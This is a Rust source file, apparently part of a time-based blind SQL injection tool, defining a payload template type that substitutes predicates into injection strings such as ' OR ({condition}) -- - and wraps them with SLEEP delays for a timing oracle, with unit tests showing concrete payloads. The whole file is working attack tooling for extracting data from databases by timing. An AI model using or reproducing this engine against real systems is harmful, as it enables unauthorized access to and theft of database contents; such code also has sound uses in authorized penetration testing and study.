use anyhow::{bail, Result};
use regex::Regex;

/// An opaque SQL injection payload template with a single `{condition}` slot
/// and, optionally, an embedded `SLEEP(n)` invocation the calibrator and
/// oracle are allowed to rewrite (§4.4).
///
/// The engine never interprets the SQL dialect inside the template; it only
/// ever substitutes text into `{condition}` and rewrites the numeric argument
/// of an existing `SLEEP(...)`. Templates without an inline `SLEEP` are
/// valid too — the oracle introduces one by wrapping the predicate (§4.4
/// rule 2), which is how the default template `' OR ({condition}) -- -`
/// works.
#[derive(Debug, Clone)]
pub struct PayloadTemplate {
    raw: String,
}

impl PayloadTemplate {
    /// Parse and validate a template string. Fails fast (§7 "Configuration"
    /// error kind) when the placeholder is missing or duplicated.
    pub fn parse(raw: impl Into<String>) -> Result<Self> {
        let raw = raw.into();

        let occurrences = raw.matches("{condition}").count();
        if occurrences == 0 {
            bail!("payload template missing required {{condition}} placeholder");
        }
        if occurrences > 1 {
            bail!(
                "payload template must contain exactly one {{condition}} placeholder, found {}",
                occurrences
            );
        }

        Ok(Self { raw })
    }

    pub fn as_str(&self) -> &str {
        &self.raw
    }

    /// Does the template already carry its own `SLEEP(...)` call?
    pub fn has_inline_sleep(&self) -> bool {
        sleep_pattern().is_match(&self.raw)
    }

    /// Substitute `predicate` into `{condition}` verbatim, leaving any
    /// `SLEEP(n)` untouched. Used for baseline probes (condition `1=0`),
    /// which must never carry a server-side delay.
    pub fn instantiate(&self, predicate: &str) -> String {
        self.raw.replacen("{condition}", predicate, 1)
    }

    /// Rewrite the numeric argument of every `SLEEP(...)` call to `delay_secs`,
    /// then substitute `predicate` into `{condition}`.
    pub fn instantiate_with_delay(&self, predicate: &str, delay_secs: f64) -> String {
        let rewritten = sleep_pattern()
            .replace_all(&self.raw, format!("SLEEP({})", format_delay(delay_secs)))
            .into_owned();
        rewritten.replacen("{condition}", predicate, 1)
    }

    /// Build the complete injection payload for a predicate the oracle wants
    /// evaluated under a known delay `D`, applying §4.4's three
    /// deterministic rules:
    ///
    /// 1. Template already has `SLEEP(`: rewrite its argument to `D`,
    ///    substitute the predicate verbatim.
    /// 2. Otherwise, if the predicate itself has no `SLEEP(`: wrap it as
    ///    `(predicate) AND SLEEP(D)`.
    /// 3. Otherwise substitute the predicate verbatim (it already carries
    ///    its own delay logic).
    pub fn instantiate_for_oracle(&self, predicate: &str, delay_secs: f64) -> String {
        if self.has_inline_sleep() {
            self.instantiate_with_delay(predicate, delay_secs)
        } else if !sleep_pattern().is_match(predicate) {
            let wrapped = format!("({}) AND SLEEP({})", predicate, format_delay(delay_secs));
            self.instantiate(&wrapped)
        } else {
            self.instantiate(predicate)
        }
    }
}

fn format_delay(delay_secs: f64) -> String {
    // Trim trailing zeros but keep at least one digit so `SLEEP(2)` vs
    // `SLEEP(2.0)` differences never matter to the target SQL engine.
    let mut s = format!("{:.3}", delay_secs);
    while s.ends_with('0') {
        s.pop();
    }
    if s.ends_with('.') {
        s.pop();
    }
    s
}

fn sleep_pattern() -> Regex {
    Regex::new(r"(?i)sleep\(\s*[0-9]+(?:\.[0-9]+)?\s*\)").expect("static sleep regex is valid")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rejects_missing_condition_slot() {
        assert!(PayloadTemplate::parse("' OR SLEEP(1)--").is_err());
    }

    #[test]
    fn rejects_duplicate_condition_slot() {
        assert!(PayloadTemplate::parse("{condition} OR {condition}").is_err());
    }

    #[test]
    fn accepts_template_without_inline_sleep() {
        let t = PayloadTemplate::parse("' OR ({condition}) -- -").unwrap();
        assert!(!t.has_inline_sleep());
    }

    #[test]
    fn accepts_inline_sleep_template() {
        let t = PayloadTemplate::parse("1 OR ({condition}) AND SLEEP(2) -- -").unwrap();
        assert!(t.has_inline_sleep());
    }

    #[test]
    fn instantiate_substitutes_condition_only() {
        let t = PayloadTemplate::parse("' OR ({condition}) AND SLEEP(1) -- -").unwrap();
        let out = t.instantiate("1=1");
        assert_eq!(out, "' OR (1=1) AND SLEEP(1) -- -");
    }

    #[test]
    fn instantiate_with_delay_rewrites_sleep_argument() {
        let t = PayloadTemplate::parse("' OR ({condition}) AND SLEEP(1) -- -").unwrap();
        let out = t.instantiate_with_delay("1=1", 2.5);
        assert_eq!(out, "' OR (1=1) AND SLEEP(2.5) -- -");
    }

    #[test]
    fn oracle_rule_one_rewrites_inline_sleep() {
        let t = PayloadTemplate::parse("1 OR ({condition}) AND SLEEP(9) -- -").unwrap();
        let out = t.instantiate_for_oracle("x >= 64", 2.0);
        assert_eq!(out, "1 OR (x >= 64) AND SLEEP(2) -- -");
    }

    #[test]
    fn oracle_rule_two_wraps_predicate_with_sleep() {
        let t = PayloadTemplate::parse("' OR ({condition}) -- -").unwrap();
        let out = t.instantiate_for_oracle("x >= 64", 2.0);
        assert_eq!(out, "' OR ((x >= 64) AND SLEEP(2)) -- -");
    }

    #[test]
    fn oracle_rule_three_leaves_self_contained_predicate_verbatim() {
        let t = PayloadTemplate::parse("' OR ({condition}) -- -").unwrap();
        let predicate = "x >= 64 OR SLEEP(2)";
        let out = t.instantiate_for_oracle(predicate, 2.0);
        assert_eq!(out, format!("' OR ({}) -- -", predicate));
    }
}
